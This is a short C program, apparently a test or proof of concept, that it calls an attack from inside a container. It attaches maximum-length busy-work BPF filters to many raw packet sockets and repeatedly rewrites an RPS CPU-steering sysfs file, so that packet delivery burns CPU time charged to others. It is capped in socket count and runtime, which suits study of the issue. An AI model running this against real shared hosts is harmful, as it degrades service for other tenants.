// SPDX-License-Identifier: GPL-2.0
/*
 * An attack from inside a container: packet sockets with filters as long as
 * they may be, all of which the container's stack runs for every frame that is
 * delivered to it. Whoever delivers pays for that time, if it can be made to
 * run the stack:
 *
 *	burden --sockets 100 --steer /sys/class/net/eth0/queues/rx-0/rps_cpus=2
 *
 * writes its own choice of CPUs, again and again. Until SIGTERM.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SOCKETS_MAX	1000
#define SECONDS_MAX	120
#define STEER_PAUSE_US	2000

static volatile sig_atomic_t stopped;

static void stop(int signal_number)
{
	(void)signal_number;
	stopped = 1;
}

/* Work without an end that a compiler could see, then: not for this socket. */
static void fill_filter(struct sock_filter *code)
{
	code[0] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_LEN, 0);
	code[1] = (struct sock_filter)BPF_STMT(BPF_MISC | BPF_TAX, 0);
	for (int i = 2; i < BPF_MAXINSNS - 1; i++)
		code[i] = (struct sock_filter)
			BPF_STMT(BPF_ALU | BPF_MUL | BPF_X, 0);
	code[BPF_MAXINSNS - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
}

static bool open_one(const struct sock_fprog *program)
{
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	/* All protocols, and only once the filter is there. */
	struct { unsigned short family, protocol; int ifindex; char rest[12]; }
		address = { AF_PACKET, htons(ETH_P_ALL), 0, "" };

	return fd >= 0 &&
	       !setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, program,
			   sizeof(*program)) &&
	       !bind(fd, (struct sockaddr *)&address, sizeof(address));
}

static bool open_all(unsigned int count)
{
	static struct sock_filter code[BPF_MAXINSNS];
	struct sock_fprog program = { BPF_MAXINSNS, code };

	fill_filter(code);
	for (unsigned int i = 0; i < count; i++)
		if (!open_one(&program))
			return false;
	return true;
}

static void write_file(const char *path, const char *value)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, value, strlen(value)) < 0)
		perror(path);
	close(fd);
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "sockets", required_argument, NULL, 's' },
		{ "steer", required_argument, NULL, 'f' },
		{}
	};
	unsigned int count = 100;
	char *path = NULL, *value = NULL;
	int key;

	while ((key = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (key == 's') {
			count = atoi(optarg);
		} else if (key == 'f') {
			path = optarg;
			value = strchr(path, '=');
		}
	}
	if (count > SOCKETS_MAX || (path && !value))
		return 2;
	if (value)
		*value++ = '\0';
	signal(SIGTERM, stop);
	signal(SIGALRM, stop);
	alarm(SECONDS_MAX);
	if (!open_all(count)) {
		fprintf(stderr, "burden: socket: %s\n", strerror(errno));
		return 1;
	}
	printf("ready %d\n", getpid());
	fflush(stdout);
	while (!stopped) {
		if (path)
			write_file(path, value);
		usleep(path ? STEER_PAUSE_US : 100000);
	}
	return 0;
}
